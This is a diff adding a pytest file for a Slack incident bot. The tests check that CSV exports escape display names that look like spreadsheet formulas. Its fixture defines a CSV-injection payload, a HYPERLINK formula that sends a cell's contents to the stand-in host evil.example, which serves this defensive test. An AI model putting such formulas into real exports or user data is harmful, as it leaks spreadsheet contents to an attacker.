@@ -1,0 +1,52 @@
+"""Exports requested from Slack (`/crisis export`) when people put hostile or awkward text in
+the timeline: display names that are spreadsheet formulas, Markdown links in notes, Bulgarian
+numbers in the evidence. Through the signed endpoint; the file is the one uploaded to Slack."""
+
+from __future__ import annotations
+
+import csv
+import dataclasses
+import io
+from collections.abc import Iterator
+
+import pytest
+
+from bot.core.clock import ManualClock
+from bot.testing import Stack, start_stack
+from tests.bot.flow import answer, open_storm
+from tests.bot.test_response import PLAYBOOK
+
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
+
+
+@pytest.fixture(params=["en", "bg"])
+def team(request: pytest.FixtureRequest, database_url: str, clock: ManualClock) -> Iterator[Stack]:
+    s = start_stack(database_url, clock=clock,
+                    config=dataclasses.replace(PLAYBOOK, locale=request.param))  # fmt: skip
+    s.emulator.add_user("U0EVIL", FORMULA_NAME)
+    s.emulator.add_user("U0PLUS", "+359 88 123 4567")
+    yield s
+    s.stop()
+
+
+def _exported(team: Stack, number: int, fmt: str) -> str:
+    team.slack.command(f"export {number} {fmt}", user_id="U0ALICE")
+    uploaded = team.emulator.wait_for(
+        lambda: [f for f in team.emulator.files.values() if f["name"].endswith(fmt)]
+    )
+    return bytes(uploaded[0]["content"]).decode("utf-8-sig")
+
+
+def test_a_display_name_that_is_a_formula_is_text_in_the_csv(
+    team: Stack, clock: ManualClock
+) -> None:
+    n = open_storm(team, clock)
+    team.slack.command(f"claim {n}", user_id="U0EVIL")
+    answer(team, f"#{n}")
+    team.slack.command(f"claim {n}", user_id="U0PLUS")
+    team.emulator.wait_for(lambda: len(team.emulator.responses) == 2)
+    rows = list(csv.reader(io.StringIO(_exported(team, n, "csv"))))
+    names = [r[3] for r in rows[1:]]
+    assert "'" + FORMULA_NAME in names and "'+359 88 123 4567" in names
+    formulas = [c for r in rows for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert formulas == []
